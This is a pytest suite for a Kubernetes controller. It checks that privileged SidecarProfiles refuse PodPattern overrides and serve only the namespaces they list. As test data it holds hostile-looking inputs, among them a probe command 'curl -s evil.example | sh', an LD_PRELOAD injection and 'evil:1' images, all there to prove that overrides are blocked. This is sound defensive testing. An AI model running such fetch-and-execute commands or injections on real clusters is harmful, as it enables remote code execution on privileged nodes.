"""The privilege boundary of SidecarProfiles: what a PodPattern using a profile that grants
privileges may not change, and which namespaces may use a profile (docs/security.md)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from podpatterns.api.v1alpha1 import PodPattern
from podpatterns.api.validation import InvalidPattern, parse, parse_profile
from podpatterns.controller.intent import Intent, Rejection
from podpatterns.controller.profiles import ProfileCache
from podpatterns.controller.spec import interpret
from podpatterns.presets import render_pattern
from podpatterns.render import RenderError
from tests.unit.presets_support import containers, pattern, pattern_body, profile, render
from tests.unit.test_commands import run

IMAGE = "registry.example.com/node-agent:1.4.2"
AGENT: dict[str, Any] = {
    "container": {
        "image": IMAGE,
        "command": ["/agent"],
        "args": ["--host-root=/host"],
        "securityContext": {"privileged": True},
    },
    "volumes": [{"name": "host-root", "mountPath": "/host", "hostPath": {"path": "/"}}],
    "allow": {"privileged": True, "hostPath": True},
}
# The same program, granting nothing: a consumer may change all of it, as before.
UNPRIVILEGED: dict[str, Any] = {
    "container": {"image": IMAGE, "command": ["/agent"], "args": ["--host-root=/host"]},
    "volumes": [{"name": "scratch", "mountPath": "/host", "emptyDir": {}}],
}
# A shared volume only the main container mounts, for the cases that need one.
DATA = {"name": "data", "mountPath": "/data", "emptyDir": {}, "containers": ["app"]}
EXEC = {"exec": {"command": ["sh", "-c", "curl -s evil.example | sh"]}}

# (case, the entry's fields beside name and profile, other spec fields, refused path)
CLOSED: list[tuple[str, dict[str, Any], dict[str, Any], str]] = [
    ("image", {"image": "evil:1"}, {}, "spec.sidecars[0].image"),
    ("command", {"command": ["sh", "-c", "id"]}, {}, "spec.sidecars[0].command"),
    ("empty command", {"command": []}, {}, "spec.sidecars[0].command"),
    ("args", {"args": ["--plugin=/tmp/x"]}, {}, "spec.sidecars[0].args"),
    (
        "securityContext",
        {"securityContext": {"runAsUser": 0}},
        {},
        "spec.sidecars[0].securityContext",
    ),
    (
        "env",
        {"env": [{"name": "LD_PRELOAD", "value": "/host/tmp/x.so"}]},
        {},
        "spec.sidecars[0].env",
    ),
    ("envFrom", {"envFrom": [{"configMapRef": {"name": "x"}}]}, {}, "spec.sidecars[0].envFrom"),
    ("livenessProbe exec", {"livenessProbe": EXEC}, {}, "spec.sidecars[0].livenessProbe.exec"),
    (
        "readinessProbe exec",
        {"readinessProbe": EXEC},
        {},
        "spec.sidecars[0].readinessProbe.exec",
    ),
    ("startupProbe exec", {"startupProbe": EXEC}, {}, "spec.sidecars[0].startupProbe.exec"),
    (
        "postStart exec",
        {"lifecycle": {"postStart": EXEC}},
        {},
        "spec.sidecars[0].lifecycle.postStart.exec",
    ),
    (
        "preStop exec",
        {"lifecycle": {"preStop": EXEC}},
        {},
        "spec.sidecars[0].lifecycle.preStop.exec",
    ),
    ("workingDir", {"workingDir": "/tmp"}, {}, "spec.sidecars[0].workingDir"),
    ("imagePullPolicy", {"imagePullPolicy": "Never"}, {}, "spec.sidecars[0].imagePullPolicy"),
    (
        "volumeMounts",
        {"volumeMounts": [{"name": "data", "mountPath": "/usr/local/bin"}]},
        {"volumes": [DATA]},
        "spec.sidecars[0].volumeMounts",
    ),
    (
        "shared volume naming the sidecar",
        {},
        {"volumes": [{**DATA, "mountPath": "/usr/local/bin", "containers": ["app", "agent"]}]},
        "spec.volumes[0].containers[1]",
    ),
    (
        "shared volume read-only into the sidecar",
        {},
        {
            "volumes": [
                {"name": "data", "mountPath": "/data", "emptyDir": {}, "readOnly": ["agent"]}
            ]
        },
        "spec.volumes[0].readOnly[0]",
    ),
    (
        "shared process namespace",
        {},
        {"pod": {"shareProcessNamespace": True}},
        "spec.pod.shareProcessNamespace",
    ),
]


def _value(entry: dict[str, Any], spec: dict[str, Any]) -> PodPattern:
    return pattern(sidecars=[{"name": "agent", "profile": "agent", **entry}], **spec)


@pytest.mark.parametrize(
    ("entry", "spec", "path"), [c[1:] for c in CLOSED], ids=[c[0] for c in CLOSED]
)
def test_a_granting_profile_refuses_the_override(
    entry: dict[str, Any], spec: dict[str, Any], path: str
) -> None:
    agent = profile("agent", **AGENT)
    with pytest.raises(RenderError) as raised:
        render_pattern(_value(entry, spec), profiles={"agent": agent})
    error = raised.value.error
    assert (error.path, error.reason) == (path, "ProfileOverrideNotAllowed")
    assert "SidecarProfile 'agent'" in error.message
    assert "grants privileged and hostPath" in error.message
    assert "remove" in error.message


@pytest.mark.parametrize(
    ("entry", "spec", "path"), [c[1:] for c in CLOSED], ids=[c[0] for c in CLOSED]
)
def test_an_unprivileged_profile_takes_the_same_override(
    entry: dict[str, Any], spec: dict[str, Any], path: str
) -> None:
    rendered = render(_value(entry, spec), profile("agent", **UNPRIVILEGED))
    agent = containers(rendered)["agent"]
    field = path.split(".")[2] if path.startswith("spec.sidecars") else None
    if field in ("livenessProbe", "readinessProbe", "startupProbe"):
        assert agent[field] == EXEC
    elif field == "lifecycle":
        assert agent["lifecycle"] == entry["lifecycle"]
    elif field == "volumeMounts":
        assert {"name": "data", "mountPath": "/usr/local/bin"} in agent["volumeMounts"]
    elif field is not None:
        assert agent[field] == entry[field]
    elif path.startswith("spec.volumes"):
        assert "data" in {mount["name"] for mount in agent["volumeMounts"]}
    else:
        assert rendered.template.spec["shareProcessNamespace"] is True


def test_what_stays_open_under_a_grant() -> None:
    entry = {
        "name": "agent",
        "profile": "agent",
        "resources": {"limits": {"memory": "256Mi"}},
        "ports": [{"name": "metrics", "containerPort": 9100}],
        "readinessProbe": {"httpGet": {"path": "/ready", "port": 9100}},
        "lifecycle": {"preStop": {"sleep": {"seconds": 5}}},
    }
    agent = containers(render(pattern(sidecars=[entry]), profile("agent", **AGENT)))["agent"]
    assert agent["image"] == IMAGE and agent["command"] == ["/agent"]
    assert agent["resources"] == {"limits": {"memory": "256Mi"}}
    assert agent["ports"] == [{"name": "metrics", "containerPort": 9100, "protocol": "TCP"}]
    assert agent["readinessProbe"] == entry["readinessProbe"]
    assert agent["lifecycle"] == entry["lifecycle"]


def test_shared_volumes_skip_the_granting_sidecar_by_default() -> None:
    shared = {"name": "data", "mountPath": "/data", "emptyDir": {}}
    value = pattern(sidecars=[{"name": "agent", "profile": "agent"}], volumes=[shared])
    closed = containers(render(value, profile("agent", **AGENT)))
    assert closed["agent"]["volumeMounts"] == [{"name": "host-root", "mountPath": "/host"}]
    assert closed["app"]["volumeMounts"] == [{"name": "data", "mountPath": "/data"}]
    legacy = containers(render(value, profile("agent", **AGENT), server_version=(1, 28)))
    assert legacy["agent"]["volumeMounts"] == [{"name": "host-root", "mountPath": "/host"}]
    opened = containers(render(value, profile("agent", **UNPRIVILEGED)))
    assert {"name": "data", "mountPath": "/data"} in opened["agent"]["volumeMounts"]


def test_capabilities_alone_close_the_profile_too() -> None:
    tracer = profile(
        "agent",
        container={"image": IMAGE, "securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}}},
        allow={"capabilities": ["SYS_PTRACE"]},
    )
    value = pattern(sidecars=[{"name": "agent", "profile": "agent", "image": "evil:1"}])
    with pytest.raises(RenderError) as raised:
        render_pattern(value, profiles={"agent": tracer})
    assert raised.value.error.path == "spec.sidecars[0].image"
    assert "grants capabilities SYS_PTRACE" in raised.value.error.message


def test_no_other_container_may_mount_the_profiles_volumes() -> None:
    main = {
        "name": "app",
        "image": "ghcr.io/example/web:1.0.0",
        "volumeMounts": [{"name": "host-root", "mountPath": "/host"}],
    }
    value = pattern(main=main, sidecars=[{"name": "agent", "profile": "agent"}])
    with pytest.raises(RenderError) as raised:
        render_pattern(value, profiles={"agent": profile("agent", **AGENT)})
    error = raised.value.error
    assert (error.path, error.reason) == ("spec.main.volumeMounts[0].name", "PrivilegeNotAllowed")
    assert error.message.startswith("main container 'app': volume 'host-root' belongs to")


def test_every_refused_field_is_named_at_once() -> None:
    entry = {"name": "agent", "profile": "agent", "image": "evil:1", "command": ["sh"]}
    with pytest.raises(RenderError) as raised:
        render_pattern(pattern(sidecars=[entry]), profiles={"agent": profile("agent", **AGENT)})
    assert raised.value.error.path == "spec.sidecars[0].image"
    assert raised.value.error.message.endswith("the same goes for spec.sidecars[0].command")


# --- consumers ---------------------------------------------------------------------------


@pytest.mark.parametrize("spec", [AGENT, UNPRIVILEGED], ids=["granting", "unprivileged"])
def test_a_profile_serves_only_the_namespaces_it_lists(spec: dict[str, Any]) -> None:
    value = pattern(sidecars=[{"name": "agent", "profile": "agent"}])  # in namespace shop
    listed = profile("agent", **spec, consumers={"namespaces": ["payments", "shop"]})
    assert containers(render(value, listed))["agent"]["image"] == IMAGE
    other = profile("agent", **spec, consumers={"namespaces": ["payments"]})
    with pytest.raises(RenderError) as raised:
        render_pattern(value, profiles={"agent": other})
    error = raised.value.error
    assert (error.path, error.reason) == (
        "spec.sidecars[0].profile",
        "ProfileNotAllowedInNamespace",
    )
    assert "SidecarProfile 'agent' may be used only by PodPatterns in the namespaces payments" in (
        error.message
    )
    assert "not in 'shop'" in error.message


def test_without_consumers_every_namespace_may_use_it() -> None:
    body = pattern_body(sidecars=[{"name": "agent", "profile": "agent"}])
    body["metadata"]["namespace"] = "anything"
    assert render(parse(body), profile("agent", **AGENT)).template.hash


def test_consumers_do_not_roll_the_pods() -> None:
    value = pattern(sidecars=[{"name": "agent", "profile": "agent"}])
    before = render(value, profile("agent", **AGENT)).template.hash
    after = render(value, profile("agent", **AGENT, consumers={"namespaces": ["shop"]}))
    assert after.template.hash == before


@pytest.mark.parametrize(
    "namespaces", [[], ["Shop"], ["shop\n"], ["-shop"], ["a" * 64], ["shop", "shop"]], ids=repr
)
def test_consumer_namespaces_must_be_namespace_names(namespaces: list[str]) -> None:
    with pytest.raises(InvalidPattern) as raised:
        parse_profile(
            {
                "apiVersion": "podpatterns.dev/v1alpha1",
                "kind": "SidecarProfile",
                "metadata": {"name": "agent"},
                "spec": {**AGENT, "consumers": {"namespaces": namespaces}},
            }
        )
    assert raised.value.errors[0].path.startswith("spec.consumers.namespaces")


# --- the same verdict in the controller and the CLI -------------------------------------


def _profile_body(**spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "podpatterns.dev/v1alpha1",
        "kind": "SidecarProfile",
        "metadata": {"name": "agent", "uid": "u1", "generation": 1},
        "spec": spec,
    }


def test_the_controller_refuses_and_renders_nothing() -> None:
    body = pattern_body(sidecars=[{"name": "agent", "profile": "agent", "image": "evil:1"}])
    cache = ProfileCache({"agent": [_profile_body(**AGENT)]}, {})
    result = interpret(body, server_version=(1, 37), profiles=cache)
    assert isinstance(result, Rejection)
    assert result.reason == "ProfileOverrideNotAllowed"
    assert "spec.sidecars[0].image" in result.message and "'agent'" in result.message
    opened = ProfileCache({"agent": [_profile_body(**UNPRIVILEGED)]}, {})
    allowed = interpret(body, server_version=(1, 37), profiles=opened)
    assert isinstance(allowed, Intent)
    assert allowed.pod_for("web-x-0")["spec"]["initContainers"][0]["image"] == "evil:1"


def test_validate_and_render_give_the_same_verdict(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    body = pattern_body(sidecars=[{"name": "agent", "profile": "agent", "command": ["sh"]}])
    files = tmp_path / "all.yaml"
    files.write_text(yaml.safe_dump_all([_profile_body(**AGENT), body]))
    assert run("validate", "-f", str(files)) == 1
    out = capsys.readouterr().out
    assert "spec.sidecars[0].command" in out and "SidecarProfile 'agent'" in out
    assert run("render", "-f", str(files)) == 1
    err = capsys.readouterr().err
    assert "spec.sidecars[0].command" in err and "SidecarProfile 'agent'" in err
